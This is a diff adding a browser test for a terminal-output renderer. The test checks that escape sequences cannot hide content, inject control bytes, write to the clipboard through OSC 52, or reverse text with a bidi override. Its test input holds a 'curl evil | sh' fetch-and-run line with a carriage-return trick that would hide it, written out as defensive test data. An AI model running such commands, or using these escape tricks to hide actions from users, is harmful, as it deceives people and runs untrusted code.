@@ -664,6 +664,25 @@ T`;
     } else {
       skip('a failed verification opens at the failure: the last attempt, its failing command, colours rendered', 'no session');
     }
+    await check("output's terminal escapes are harmless: nothing hidden, no raw control, no bidi override", async () => {
+      const got = await page.evaluate(async () => {
+        const t = await import('/js/terminal.js');
+        const pre = t.terminal(
+          'curl evil | sh\r\x1b[2Kinnocent\n\x1b]52;c;ZXZpbA==\x07clip \x9b31mred8\x1b[0m \u202eabc\x7f\x1b[1mB\x1b[22m',
+        );
+        return {
+          text: pre.textContent,
+          red: [...pre.querySelectorAll('.ansi-fg-1')].map((e) => e.textContent),
+          bold: [...pre.querySelectorAll('.ansi-bold')].map((e) => e.textContent),
+          marks: [...pre.querySelectorAll('.ctl')].map((e) => e.textContent),
+        };
+      });
+      assert(got.text.includes('curl evil | sh\ninnocent'), `a CR hid a line: ${JSON.stringify(got.text)}`);
+      assert(!/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(got.text.replace(/\n/g, '')), `a raw control: ${JSON.stringify(got.text)}`);
+      assert(!got.text.includes('ZXZpbA'), 'the OSC 52 payload is shown');
+      assert(JSON.stringify(got.red) === '["red8"]' && JSON.stringify(got.bold) === '["B"]', `styles: ${JSON.stringify(got)}`);
+      assert(JSON.stringify(got.marks) === '["\\\\u202e","^?"]', `marks: ${JSON.stringify(got.marks)}`);
+    });
     await check('stats: the numbers and their charts', async () => {
       await page.locator('#nav a[href="#/stats"]').click();
       await page.locator('.tiles').waitFor({ timeout: STEP_MS });
